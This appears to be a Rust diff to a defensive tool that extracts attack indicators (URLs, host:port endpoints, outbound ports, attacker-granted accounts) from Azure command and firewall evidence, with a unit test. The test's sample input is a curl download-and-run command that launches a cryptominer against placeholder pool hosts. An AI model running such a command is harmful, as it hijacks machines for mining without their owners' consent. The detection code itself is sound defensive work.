@@ -23,6 +23,10 @@ pub enum IocKind {
     UserAgent,
     Resource,
     Url,
+    /// A `host:port` the attacker's own command connects to (the host may be a placeholder).
+    Endpoint,
+    /// A destination port the attacker's command or firewall rule opens outbound.
+    Port,
     Hash,
 }
 
@@ -34,6 +38,8 @@ impl IocKind {
             IocKind::UserAgent => "User agent",
             IocKind::Resource => "Azure resource",
             IocKind::Url => "URL",
+            IocKind::Endpoint => "Network endpoint",
+            IocKind::Port => "Port",
             IocKind::Hash => "Hash",
         }
     }
@@ -138,6 +144,75 @@ fn from_steps(t: &mut Table, steps: &[Step]) {
     }
 }
 
+/// What the attacker's own commands (a VM extension's `commandToExecute`) and outbound firewall
+/// rules name: URLs it fetched from, endpoints and ports it connects to.
+fn from_commands_and_rules(t: &mut Table, steps: &[Step]) {
+    for s in steps.iter().filter(|s| s.kind != StepKind::LateralMovement) {
+        let Some(d) = &s.details else { continue };
+        let end = s.end.unwrap_or(s.at);
+        let mut see = |kind: IocKind, value: String, role: &str| {
+            t.entry((kind, value)).or_default().see(s.at, end, role, Some(&s.id), &s.evidence);
+        };
+        if let Some(cmd) = &d.command {
+            let (urls, endpoints) = network_indicators(cmd);
+            // The activity log shows the command handed to the VM, not that it ran.
+            let sent = if s.outcome == Outcome::Failed {
+                "the attacker tried to deploy to a VM"
+            } else {
+                "the attacker deployed to a VM"
+            };
+            for u in urls {
+                see(IocKind::Url, u, &format!("URL in a command {sent}"));
+            }
+            for (endpoint, port) in endpoints {
+                see(IocKind::Endpoint, endpoint, &format!("endpoint in a command {sent}"));
+                see(IocKind::Port, port, &format!("port in a command {sent}"));
+            }
+        }
+        if let Some(rule) = &d.rule {
+            let outbound_allow = rule.direction.as_deref().is_some_and(|x| x.eq_ignore_ascii_case("outbound"))
+                && rule.access.as_deref().is_some_and(|x| x.eq_ignore_ascii_case("allow"));
+            if let Some(port) = rule.port.as_deref().filter(|p| outbound_allow && *p != "*") {
+                let role = if s.outcome == Outcome::Failed {
+                    "the attacker tried to open this port outbound"
+                } else {
+                    "port the attacker opened outbound in a firewall rule"
+                };
+                see(IocKind::Port, port.to_string(), role);
+            }
+        }
+    }
+}
+
+/// URLs in a command line (found by linkify), and the `host:port` tokens outside them.
+fn network_indicators(cmd: &str) -> (Vec<String>, Vec<(String, String)>) {
+    static ENDPOINT: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+        // A host (name, address or a `{{PLACEHOLDER}}`/`$VAR`) and a port, as a whole token.
+        regex::Regex::new(r#"(?:^|[\s='"(@])((?:\{\{[A-Za-z0-9_]+\}\}|\$\{?[A-Za-z0-9_]+\}?|[A-Za-z0-9][A-Za-z0-9.-]*[A-Za-z0-9])):([0-9]{1,5})(?:$|[\s'");/])"#)
+            .expect("the endpoint pattern is valid")
+    });
+    let mut finder = linkify::LinkFinder::new();
+    finder.kinds(&[linkify::LinkKind::Url]);
+    let mut outside = String::with_capacity(cmd.len());
+    let mut urls = Vec::new();
+    let mut last = 0;
+    for link in finder.links(cmd) {
+        outside.push_str(&cmd[last..link.start()]);
+        outside.push(' ');
+        urls.push(link.as_str().to_string());
+        last = link.end();
+    }
+    outside.push_str(&cmd[last..]);
+    let endpoints = ENDPOINT
+        .captures_iter(&outside)
+        .filter(|c| c[2].parse::<u16>().is_ok_and(|p| p > 0))
+        // A bare number before the colon is a time or a ratio, not a host.
+        .filter(|c| c[1].contains(|ch: char| ch == '.' || ch == '{' || ch == '$' || ch.is_ascii_alphabetic()))
+        .map(|c| (format!("{}:{}", &c[1], &c[2]), c[2].to_string()))
+        .collect();
+    (urls, endpoints)
+}
+
 fn from_signins(t: &mut Table, signins: &[SignIn], scope: &Scope, steps: &[Step]) {
     for s in signins.iter().filter(|s| s.ip.is_some_and(|ip| scope.has_ip(&ip))) {
         let step = steps
@@ -168,19 +243,10 @@ fn from_alerts(t: &mut Table, alerts: &[Alert], scope: &Scope) {
                 std::slice::from_ref(&a.origin),
             );
         }
-        for value in [a.description.as_deref().unwrap_or("")]
-            .iter()
-            .flat_map(|d| d.split_whitespace())
-            .filter(|w| w.starts_with("https://") || w.starts_with("http://"))
-        {
-            let url = value.trim_end_matches(['.', ',', ')', ';']);
-            t.entry((IocKind::Url, url.to_string())).or_default().see(
-                at,
-                at,
-                "URL named in an alert",
-                None,
-                std::slice::from_ref(&a.origin),
-            );
+        for url in network_indicators(a.description.as_deref().unwrap_or("")).0 {
+            t.entry((IocKind::Url, url))
+                .or_default()
+                .see(at, at, "URL named in an alert", None, std::slice::from_ref(&a.origin));
         }
     }
 }
@@ -194,6 +260,15 @@ fn from_scope(t: &mut Table, scope: &Scope) {
             e.roles.insert("in the attacker scope (see the scope reasons)".into());
         }
     }
+    for f in &scope.footholds {
+        t.entry((IocKind::Account, f.principal.to_string())).or_default().see(
+            f.at,
+            f.at,
+            &format!("granted {} by the attacker; not seen acting in the evidence provided", f.role),
+            None,
+            std::slice::from_ref(&f.evidence),
+        );
+    }
     for u in scope.identities_in_scope() {
         t.entry((IocKind::Account, u.to_string()))
             .or_default()
@@ -206,6 +281,7 @@ fn from_scope(t: &mut Table, scope: &Scope) {
 pub fn build_iocs(steps: &[Step], scope: &Scope, signins: Option<&[SignIn]>, alerts: Option<&[Alert]>) -> Vec<Ioc> {
     let mut t = Table::new();
     from_steps(&mut t, steps);
+    from_commands_and_rules(&mut t, steps);
     if let Some(s) = signins {
         from_signins(&mut t, s, scope, steps);
     }
@@ -232,4 +308,28 @@ pub fn build_iocs(steps: &[Step], scope: &Scope, signins: Option<&[SignIn]>, ale
         .collect();
     out.sort_by(|a, b| (a.kind, a.first_seen, &a.value).cmp(&(b.kind, b.first_seen, &b.value)));
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::network_indicators;
+
+    #[test]
+    fn commands_give_their_urls_endpoints_and_ports() {
+        let (urls, endpoints) = network_indicators(
+            r#"bash -c "curl -fsSL http://203.0.113.9:8080/a.sh -o /tmp/.a && /tmp/.a -o {{POOL}}:3333 --url=pool.example.net:14444 -p x""#,
+        );
+        assert_eq!(urls, ["http://203.0.113.9:8080/a.sh"]);
+        assert_eq!(
+            endpoints,
+            [
+                ("{{POOL}}:3333".to_string(), "3333".to_string()),
+                ("pool.example.net:14444".to_string(), "14444".to_string())
+            ]
+        );
+        // Times, IPv6-like text and out-of-range ports are not endpoints.
+        let (urls, endpoints) = network_indicators("sleep 10; date +%H:%M; echo 12:30 host:99999 fe80::1");
+        assert!(urls.is_empty());
+        assert!(endpoints.is_empty(), "{endpoints:?}");
+    }
 }
